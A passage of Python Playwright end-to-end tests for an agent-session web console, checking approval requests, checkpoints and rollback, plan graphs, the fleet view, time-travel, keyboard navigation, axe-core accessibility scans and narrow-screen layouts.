    await expect(oldest.get_by_role("button", name="Show the session here")).to_be_focused()
    assert await page.locator("#checkpoints > li").count() <= 40
    assert await serious_violations(page) == []

    # A new checkpoint shows live, and the rows on screen say they would undo it too.
    await page.keyboard.press("End")
    granted = await client.post(
        f"/sessions/{session_id}/approvals/{request_id}", json={"decision": "grant"}, headers=admin
    )
    assert granted.status_code == 202, granted.text
    await expect(count).to_have_text(
        f"{steps} checkpoints, oldest first: a rollback goes back to one of them."
    )
    newest = page.locator(f'#checkpoints > li[aria-posinset="{steps}"]')
    await expect(newest).to_contain_text(f"after s{steps - 1}")
    await expect(latest.locator(".would-undo")).to_have_text(f"a rollback here undoes s{steps - 1}")
    await page.locator("#checkpoints-part").screenshot(path=ARTIFACTS / "checkpoints-long.png")


async def test_a_session_that_comes_to_wait_shows_on_the_list_while_another_floods_events(
    page: Page,
    api_url: str,
    client: httpx.AsyncClient,
    make_key: KeyMaker,
    store: EventStore,
    tenant: str,
) -> None:
    admin = await make_key(tenant, "admin")
    busy = await start(client, admin, echo_chain(1_500))
    await page.goto(f"{api_url}/#key={admin['Authorization'].removeprefix('Bearer ')}")
    await expect(page.locator(f'tr[data-session="{busy}"] .badge').first).to_have_text("executing")
    waiting = await start(client, admin)
    row = f'tr[data-session="{waiting}"]'
    shown = await page.wait_for_function(
        f"""() => document.querySelector('{row} td:first-child .badge')?.textContent === "waiting"
             && document.querySelector('{row}').textContent.includes("run_command")
             && Date.now()""",
        timeout=60_000,
    )
    shown_at: float = await shown.json_value()

    async def asked_at() -> float | None:
        async for stored in store.read(tenant, waiting):
            if isinstance(stored.event.data, ApprovalRequested):
                return stored.event.time.timestamp() * 1000
        return None

    asked = await eventually(asked_at, timeout_s=10, what="the approval request")
    # The list is read from a projection that trails the stream: it reads again until the
    # busy session's last event is in it, and says so meanwhile.
    await expect(page.locator(f'tr[data-session="{busy}"] .badge').first).to_have_text(
        "completed", timeout=60_000
    )
    await expect(page.locator("#list-state")).to_have_text("")
    busy_end = (await client.get(f"/sessions/{busy}", headers=admin)).json()
    ended_at = datetime.fromisoformat(busy_end["ended_at"]).timestamp() * 1000
    figures = {
        "shown_after_asked_ms": round(shown_at - asked),
        "busy_ended_after_shown_ms": round(ended_at - shown_at),
    }
    keep_figures("list-shows-waiting", figures)
    # Shown while the busy session still ran, not once its events stopped.
    assert ended_at > shown_at, figures
    # The list reads a line behind an event heard from its session's log, not only from the
    # projection (which trailed the busy session by seconds here).
    assert figures["shown_after_asked_ms"] <= 1_000, figures


AXE = Path(__file__).resolve().parents[2] / "services/api/console/node_modules/axe-core/axe.min.js"
"""axe-core, a dev dependency of the console that `make install` puts there (npm ci)."""


async def serious_violations(page: Page) -> list[dict[str, object]]:
    """What axe-core finds on the page as it is now, of serious or critical impact."""
    assert AXE.is_file(), f"{AXE} is missing: run `make install` (npm ci of the console)"
    await page.add_script_tag(path=AXE)
    found = await page.evaluate(
        "async () => (await axe.run(document, {resultTypes: ['violations']})).violations"
    )
    return [
        {"id": v["id"], "impact": v["impact"], "nodes": [n["html"] for n in v["nodes"][:3]]}
        for v in found
        if v["impact"] in ("serious", "critical")
    ]


async def test_axe_finds_no_serious_violation_on_the_list_a_session_and_its_approval(
    page: Page, api_url: str, client: httpx.AsyncClient, make_key: KeyMaker, tenant: str
) -> None:
    admin = await make_key(tenant, "admin")
    session_id = await start(client, admin)
    await waiting_request(client, admin, session_id)
    await page.goto(f"{api_url}/#key={admin['Authorization'].removeprefix('Bearer ')}")
    await expect(page.locator(f'tr[data-session="{session_id}"] .badge').first).to_have_text(
        "waiting"
    )
    assert await serious_violations(page) == []
    await screenshot(page, "session-list")

    await page.goto(f"{api_url}/#/sessions/{session_id}")
    approvals = page.get_by_role("region", name="Approvals")
    await expect(approvals.locator("form.approval")).to_contain_text("run_command")
    # A new request is announced, politely, to a screen reader.
    await expect(approvals).to_have_attribute("aria-live", "polite")
    await expect(page.locator('li[data-step-id="write"] .badge').first).to_have_text("succeeded")
    assert await serious_violations(page) == []

    # The skip link is the first stop and leads into the page's main landmark.
    await page.keyboard.press("Tab")
    skip = page.get_by_role("link", name="Skip to main content")
    await expect(skip).to_be_focused()
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("main")).to_be_focused()
    await expect(page).to_have_url(re.compile(f"#/sessions/{session_id}$"))


async def overflow(page: Page) -> int:
    """How far the page is wider than the window (0: nothing to scroll sideways)."""
    return int(await page.evaluate("document.documentElement.scrollWidth - window.innerWidth"))


async def fits_320_px(
    browser: Browser,
    api_url: str,
    headers: dict[str, str],
    path: str,
    drawn: str,
    name: str = "",
    part: str = "",
) -> None:
    """The console's `path` (once `drawn` shows, in `part` scrolled to) in a 320 px window:
    nothing to scroll sideways."""
    narrow = await browser.new_context(viewport={"width": 320, "height": 640})
    try:
        small = await narrow.new_page()
        small.set_default_timeout(TIMEOUT_MS)
        await small.goto(f"{api_url}/#key={headers['Authorization'].removeprefix('Bearer ')}")
        await small.goto(f"{api_url}/{path}")
        if part:
            await session_drawn(small)
            await small.locator(part).scroll_into_view_if_needed()
        await expect(small.locator(drawn).first).to_be_visible()
        assert await overflow(small) == 0
        if name:
            await screenshot(small, name)
    finally:
        await narrow.close()


async def test_the_list_and_a_session_with_checkpoints_fit_a_320_px_window(
    browser: Browser, api_url: str, client: httpx.AsyncClient, make_key: KeyMaker, tenant: str
) -> None:
    operator = await make_key(tenant, "operator")
    goal = "two echoes, with a goal long enough to wrap on a phone's narrow screen"
    session_id = await start(client, operator, {**echo_chain(2), "goal": goal})
    context = await browser.new_context(viewport={"width": 320, "height": 640})
    try:
        page = await context.new_page()
        page.set_default_timeout(TIMEOUT_MS)
        await page.goto(f"{api_url}/#key={operator['Authorization'].removeprefix('Bearer ')}")
        row = page.locator(f'tr[data-session="{session_id}"]')
        await expect(row.locator("a")).to_be_visible()
        assert await overflow(page) == 0
        await screenshot(page, "list-320px")

        await row.locator("a").click()
        await expect(page.locator("#summary .badge").first).to_have_text("completed")
        rollback = page.get_by_role("button", name="Roll back to here").first
        await expect(rollback).to_be_enabled()
        box = await rollback.bounding_box()
        assert box is not None
        assert 0 <= box["x"] <= box["x"] + box["width"] <= 320, box
        assert await overflow(page) == 0
        await screenshot(page, "session-320px")
    finally:
        await context.close()


async def test_a_long_plan_is_drawn_as_far_as_it_shows_filtered_jumped_and_walked_by_keys(
    page: Page,
    api_url: str,
    client: httpx.AsyncClient,
    make_key: KeyMaker,
    store: EventStore,
    tenant: str,
) -> None:
    admin = await make_key(tenant, "admin")
    playbook = echo_chain(400)
    playbook["steps"][-1]["requires_approval"] = True  # It waits at the last step.
    session_id = await start(client, admin, playbook)
    await waiting_request(client, admin, session_id)
    await open_session(page, api_url, admin, session_id)
    await expect(page.locator("#summary")).to_contain_text("399/400 steps")
    rows = page.locator("#steps > li[data-step-id]")
    await expect(rows.first).to_have_attribute("data-step-id", "s0")
    # Only the rows on screen (and a few either side) are in the page.
    assert 5 <= await rows.count() <= 60
    assert await page.locator("#calls > li").count() <= 60

    # One tab stop for the whole plan: the active row.
    assert await page.locator("#steps summary[tabindex='0']").count() == 1
    # The graph draws a window of the chain around the step that waits, not the 400 steps.
    await page.locator("#graph-part").scroll_into_view_if_needed()
    await expect(page.locator("#graph .graph-facts")).to_contain_text(
        "Layers 394 to 400 of 400 (400 steps) · current step s399"
    )
    assert await page.locator("#graph g.node").count() == 7

    # Jump to a step far down: it is drawn, focused, and the keys walk on from there.
    await page.get_by_label("Go to step").fill("s350")
    await page.get_by_role("button", name="Go", exact=True).click()
    await expect(page.locator('details[data-step="s350"] summary')).to_be_focused()
    await page.keyboard.press("ArrowDown")
    await expect(page.locator('details[data-step="s351"] summary')).to_be_focused()
    await page.keyboard.press("End")
    await expect(page.locator('details[data-step="s399"] summary')).to_be_focused()
    await page.keyboard.press("Enter")
    await expect(page.locator('details[data-step="s399"]')).to_have_attribute("open", "")
    assert await rows.count() <= 60

    # Filtered by status: the one step not succeeded (it waits, scheduled).
    offered = await page.get_by_label("Status").locator("option").all_text_contents()
    assert offered == ["any", "scheduled", "succeeded"]
    await page.get_by_label("Status").select_option("scheduled")
    await expect(rows).to_have_count(1)
    await expect(rows.first).to_have_attribute("data-step-id", "s399")
    await page.get_by_label("Status").select_option("")
    await expect(rows.first).to_be_visible()

    # The run of succeeded steps folded into one row, opened in its place from the keyboard.
    fold = page.get_by_label("Fold runs of succeeded steps")
    await fold.check()
    run = page.locator("#steps > li[data-run]")
    await expect(run).to_have_text(re.compile(r"399 succeeded steps\s*s0 to s398"))
    await expect(rows).to_have_count(1)
    await expect(rows.first).to_have_attribute("data-step-id", "s399")
    await page.locator(".columns").screenshot(path=ARTIFACTS / "plan-folded.png")
    await run.locator("summary").focus()
    await page.keyboard.press("Enter")
    await expect(page.locator('details[data-step="s0"] summary')).to_be_focused()
    await expect(run).to_have_count(0)
    await fold.uncheck()
    # A search of step ids (and tools) narrows the steps and the calls alike.
    await page.get_by_label("Search").fill("s35")
    await expect(rows).to_have_count(11)
    await expect(page.locator("#calls > li.call-row")).to_have_count(11)
    await page.get_by_label("Search").fill("")
    await expect(rows.first).to_have_attribute("data-step-id", "s0")

    # The log, read a page at a time from where the list is scrolled to: only the rows on
    # screen are in the page, and the whole list is one tab stop.
    events = page.locator("#events > li.event-row")
    await page.locator("#events-part").scroll_into_view_if_needed()
    await expect(events.first).to_contain_text("session.started")
    total = (await client.get(f"/sessions/{session_id}/overview", headers=admin)).json()
    logged = total["state"]["event_count"]
    assert logged > 1_200, logged
    await expect(page.locator("#events-count")).to_contain_text(f"{logged:,} events")
    assert await events.count() <= 60
    assert await page.locator("#events summary[tabindex='0']").count() == 1
    # End goes to the last row read, and reads on: pressed again, the next page, to the last.
    await events.first.locator("summary").focus()
    last = page.locator(f'#events > li[aria-posinset="{logged}"] summary')
    focused = page.locator("#events > li:has(summary:focus)")
    for _ in range(logged // 100 + 2):
        await page.keyboard.press("End")
        await expect(focused).to_have_count(1)
        if await focused.get_attribute("aria-posinset") == str(logged):
            break
    await expect(last).to_be_focused()
    await expect(last).to_contain_text("approval.requested")
    assert await events.count() <= 60
    await page.keyboard.press("Enter")
    await expect(page.locator(f'#events > li[aria-posinset="{logged}"] pre')).to_contain_text(
        '"step_id": "s399"'
    )
    await expect(last).to_be_focused()
    await page.locator("#events-part").screenshot(path=ARTIFACTS / "session-events.png")
    assert await serious_violations(page) == []
    await screenshot(page, "long-plan")

    # A rollback button a keyboard user reached keeps the focus while the session changes.
    # (Named by its checkpoint: the list draws other rows first as it scrolls to it.)
    any_rollback = page.locator("#checkpoints").get_by_role("button", name="Roll back to here")
    checkpoint_id = await any_rollback.first.get_attribute("data-checkpoint")
    rollback = page.locator(f'#checkpoints button[data-checkpoint="{checkpoint_id}"]')
    await rollback.focus()
    thought = ThoughtRecorded(kind="reasoning", text="the last step waits for a person")
    await store.append(new_event(thought, tenant=tenant, session_id=session_id, source="test"))
    await expect(page.locator("#thoughts")).to_contain_text("the last step waits for a person")
    await expect(rollback).to_be_focused()
    # Read to its end, the log grows from the events heard live.
    await expect(page.locator(f'#events > li[aria-posinset="{logged + 1}"]')).to_contain_text(
        "thought.recorded"
    )


async def test_the_fleet_shows_what_runs_waits_and_failed_lately_live_and_accessibly(
    page: Page,
    browser: Browser,
    api_url: str,
    client: httpx.AsyncClient,
    make_key: KeyMaker,
    tenant: str,
) -> None:
    admin = await make_key(tenant, "admin")
    failed = await start(client, admin)
    request_id = await waiting_request(client, admin, failed)
    denied = await client.post(
        f"/sessions/{failed}/approvals/{request_id}", json={"decision": "deny"}, headers=admin
    )
    assert denied.status_code == 202, denied.text
    await until(client, admin, failed, "failed")
    await page.goto(f"{api_url}/#key={admin['Authorization'].removeprefix('Bearer ')}")
    await page.get_by_role("link", name="Fleet").click()
    await expect(page.get_by_role("link", name="Fleet")).to_have_attribute("aria-current", "page")
    failed_part = page.get_by_role("region", name="Failed in the last hour")
    await expect(failed_part.locator(f'li[data-session="{failed}"]')).to_contain_text("1/2 steps")
    waiting_part = page.get_by_role("region", name="Waiting for approval")
    await expect(waiting_part.locator("li.empty")).to_have_text("Nobody is waited for.")

    # Live: a session that starts runs, and one that comes to wait shows (and is said).
    busy = await start(client, admin, echo_chain(600))
    running_part = page.get_by_role("region", name="Running")
    await expect(running_part.locator(f'li[data-session="{busy}"]')).to_contain_text("executing")
    waiting = await start(client, admin)
    await waiting_request(client, admin, waiting)
    # Read from the session's log, not the projection that trails the busy session.
    await expect(waiting_part.locator(f'li[data-session="{waiting}"]')).to_contain_text(
        "run_command", timeout=1_000
    )
    await expect(page.locator("#fleet-news")).to_have_text("1 waiting for approval.")
    await expect(waiting_part.locator(".count")).to_have_text("1")
    assert await serious_violations(page) == []
    await screenshot(page, "fleet")
    await expect(running_part.locator(f'li[data-session="{busy}"]')).to_have_count(
        0, timeout=120_000
    )

    # From the keyboard: past the skip link and the header, the first session of the fleet.
    await page.reload()
    await expect(waiting_part.get_by_role("link")).to_be_visible()
    await page.keyboard.press("Tab")
    await expect(page.get_by_role("link", name="Skip to main content")).to_be_focused()
    for _ in range(4):  # Sessions, Fleet, MCP, then the session.
        await page.keyboard.press("Tab")
    await expect(waiting_part.get_by_role("link")).to_be_focused()
    await page.keyboard.press("Enter")
    await expect(page).to_have_url(re.compile(f"#/sessions/{waiting}$"))

    await fits_320_px(
        browser, api_url, admin, "#/fleet", f'li[data-session="{failed}"]', "fleet-320px"
    )


def fan_out_and_in(parallel: int, tail: int) -> dict[str, object]:
    """`a`; then `parallel` steps after it; then `d`, after them all, asking a person; then
    a chain of `tail` steps."""
    echo = {"tool": "echo", "arguments": {"message": "hi"}}
    fan = [f"p{i}" for i in range(parallel)]
    return {
        "goal": "a fan out and in",
        "steps": [
            {"id": "a", **echo},
            *({"id": p, **echo, "depends_on": ["a"]} for p in fan),
            {"id": "d", **echo, "depends_on": fan, "requires_approval": True},
            *(
                {"id": f"t{i}", **echo, "depends_on": [f"t{i - 1}" if i else "d"]}
                for i in range(tail)
            ),
        ],
    }


async def test_the_plan_graph_draws_layers_around_the_current_step_walked_by_keys(
    page: Page,
    browser: Browser,
    api_url: str,
    client: httpx.AsyncClient,
    make_key: KeyMaker,
    tenant: str,
) -> None:
    admin = await make_key(tenant, "admin")
    session_id = await start(client, admin, fan_out_and_in(15, 30))
    await waiting_request(client, admin, session_id)
    await open_session(page, api_url, admin, session_id)
    # Drawn (and read again as the session runs) once scrolled to.
    await page.locator("#graph-part").scroll_into_view_if_needed()
    graph = page.locator("#graph")
    facts = graph.locator(".graph-facts")
    await expect(facts).to_have_text(
        "Layers 1 to 7 of 33 (47 steps) · current step d · below: 26 pending"
    )
    # Ten of the fifteen parallel steps a layer, and the rest as a count.
    await expect(graph.locator("g.node")).to_have_count(1 + 10 + 1 + 4)
    await expect(graph.locator("g.more")).to_contain_text("+5 more")
    await expect(graph.locator("text.layer").nth(1)).to_have_text(
        "layer 2 · 15 may run in parallel"
    )
    await expect(graph.locator("g.node.current")).to_have_attribute("data-node", "d")
    assert await graph.locator("path.edge").count() == 10 + 10 + 4
    assert await serious_violations(page) == []
    await graph.screenshot(path=ARTIFACTS / "plan-graph.png")

    # One tab stop, walked by the arrow keys; Enter shows the step in the plan.
    assert await graph.locator("g.node[tabindex='0']").count() == 1
    await graph.get_by_role("button", name="Current step").click()
    await expect(graph.locator('g[data-node="d"]')).to_be_focused()
    await page.keyboard.press("ArrowUp")
    await expect(graph.locator('g[data-node="p0"]')).to_be_focused()
    await page.keyboard.press("ArrowRight")
    await expect(graph.locator('g[data-node="p1"]')).to_be_focused()
    await page.keyboard.press("Enter")
    await expect(page.locator('details[data-step="p1"] summary')).to_be_focused()

    # Further down the plan, then to a step asked for by name.
    await graph.get_by_role("button", name="Later layers").click()
    await expect(facts).to_contain_text("Layers 11 to 17 of 33")
    await page.get_by_label("Go to step").fill("t29")
    await page.get_by_role("button", name="Go", exact=True).click()
    await expect(facts).to_contain_text("Layers 27 to 33 of 33")
    await expect(graph.locator('g[data-node="t29"]')).to_be_visible()

    await fits_320_px(
        browser, api_url, admin, f"#/sessions/{session_id}", "#graph g.current", part="#graph-part"
    )


LOOK_THEN_WRITE = {
    "goal": "look, then write three files",
    "steps": [
        {"id": "look", "tool": "run_command", "arguments": {"command": "ls"}},
        *(
            {
                "id": name,
                "tool": "write_file",
                "arguments": {"path": f"{name}.txt", "content": name},
                "depends_on": [before],
            }
            for name, before in (("first", "look"), ("two", "first"), ("three", "two"))
        ),
    ],
}
"""A command a person approves (the policy asks for run_command), then three reversible
writes."""


async def test_the_call_timeline_checkpoints_and_time_travel_show_the_session_over_time(
    page: Page,
    browser: Browser,
    api_url: str,
    client: httpx.AsyncClient,
    make_key: KeyMaker,
    store: EventStore,
    tenant: str,
) -> None:
    admin = await make_key(tenant, "admin")
    session_id = await start(client, admin, LOOK_THEN_WRITE)
    request_id = await waiting_request(client, admin, session_id)
    granted = await client.post(
        f"/sessions/{session_id}/approvals/{request_id}", json={"decision": "grant"}, headers=admin
    )
    assert granted.status_code == 202, granted.text
    await until(client, admin, session_id, "completed")
    await open_session(page, api_url, admin, session_id)

    # A waterfall of the calls: each starts, waits for a person or not, runs.
    await page.locator("#timeline-part").scroll_into_view_if_needed()
    timeline = page.locator("#timeline")
    rows = timeline.locator("li.wf-row")
    await expect(rows).to_have_count(4)
    await expect(rows.first).to_contain_text("run_command")
    await expect(rows.first.locator(".wf-said")).to_contain_text("for a person · ran")
    await expect(rows.first.locator(".wf-wait")).to_have_count(1)
    await expect(rows.nth(1).locator(".wf-wait")).to_have_count(0)
    await expect(rows.nth(1).locator(".wf-run")).to_have_count(1)
    await expect(timeline.locator(".wf-servers")).to_contain_text("builtin: 4 calls · ran")
    await expect(timeline.locator(".wf-facts")).to_have_text("Calls 1 to 4 of 4")
    await timeline.screenshot(path=ARTIFACTS / "call-timeline.png")

    # Each checkpoint says what a rollback to it would undo.
    checkpoints = page.locator("#checkpoints li.checkpoint")
    await expect(checkpoints).to_have_count(4)
    await expect(checkpoints.nth(1).locator(".would-undo")).to_have_text(
        "a rollback here undoes three, two (2 file changes)"
    )
    await expect(checkpoints.nth(3).locator(".would-undo")).to_have_text("nothing to undo after it")
    await page.locator("#checkpoints-part").screenshot(path=ARTIFACTS / "checkpoints.png")

    # The session as it was at that checkpoint, and at its start, from the slider's keys.
    await page.locator("#travel-part").scroll_into_view_if_needed()
    travel = page.locator("#travel")
    then = travel.locator(".travel-then")
    await expect(then).to_contain_text("4/4 steps succeeded")
    await checkpoints.nth(1).get_by_role("button", name="Show the session here").click()
    await expect(then).to_contain_text("2/4 steps succeeded")
    await expect(travel.locator("g.node.current")).to_have_attribute("data-node", "two")
    await expect(travel.locator('g[data-node="two"]')).to_have_class(
        re.compile("st-pending|st-scheduled")
    )
    assert await serious_violations(page) == []
    await travel.screenshot(path=ARTIFACTS / "time-travel.png")
    slider = travel.get_by_label("At sequence")
    await slider.focus()
    await page.keyboard.press("Home")
    await expect(then).to_contain_text("0/0 steps succeeded")
    await page.keyboard.press("End")
    await expect(travel.locator("output")).to_contain_text("(now)")
    await expect(then).to_contain_text("4/4 steps succeeded")

    # The thoughts follow the newest while the reader is at the end, and not once they
    # scrolled up to read.
    thoughts = page.locator("#thoughts")
    thoughts_box = page.locator("#thoughts-box")

    async def think(text: str) -> None:
        thought = ThoughtRecorded(kind="reasoning", text=text)
        await store.append(new_event(thought, tenant=tenant, session_id=session_id, source="test"))

    for i in range(30):
        await think(f"thought {i}")
    await expect(thoughts).to_contain_text("thought 29")
    at_end = "e => e.scrollHeight - e.scrollTop - e.clientHeight < 8"
    assert await thoughts_box.evaluate(at_end)
    await thoughts_box.evaluate("e => { e.scrollTop = 0; }")
    await expect(thoughts).not_to_contain_text("thought 29")  # Drawn as far as it shows.
    await think("one more")
    await expect(thoughts).to_contain_text("thought 0")
    await page.wait_for_function("() => !document.querySelector('#thoughts .placeholder')")
    assert await thoughts_box.evaluate("e => e.scrollTop") == 0
    await thoughts_box.evaluate("e => { e.scrollTop = e.scrollHeight; }")
    await expect(thoughts).to_contain_text("one more")

    # Steps and calls searched by tool, in any case.
    await page.get_by_label("Search").fill("WRITE")
    await expect(page.locator("#steps > li[data-step-id]")).to_have_count(3)
    await expect(page.locator("#calls > li.call-row")).to_have_count(3)
    await expect(page.locator("#calls > li.call-row").first).to_contain_text("write_file")

    drawn = "#travel g.node.st-succeeded >> nth=3"  # The last step, at the end of the page.
    await fits_320_px(
        browser,
        api_url,
        admin,
        f"#/sessions/{session_id}",
        drawn,
        "session-320px-views",
        part="#travel-part",
    )
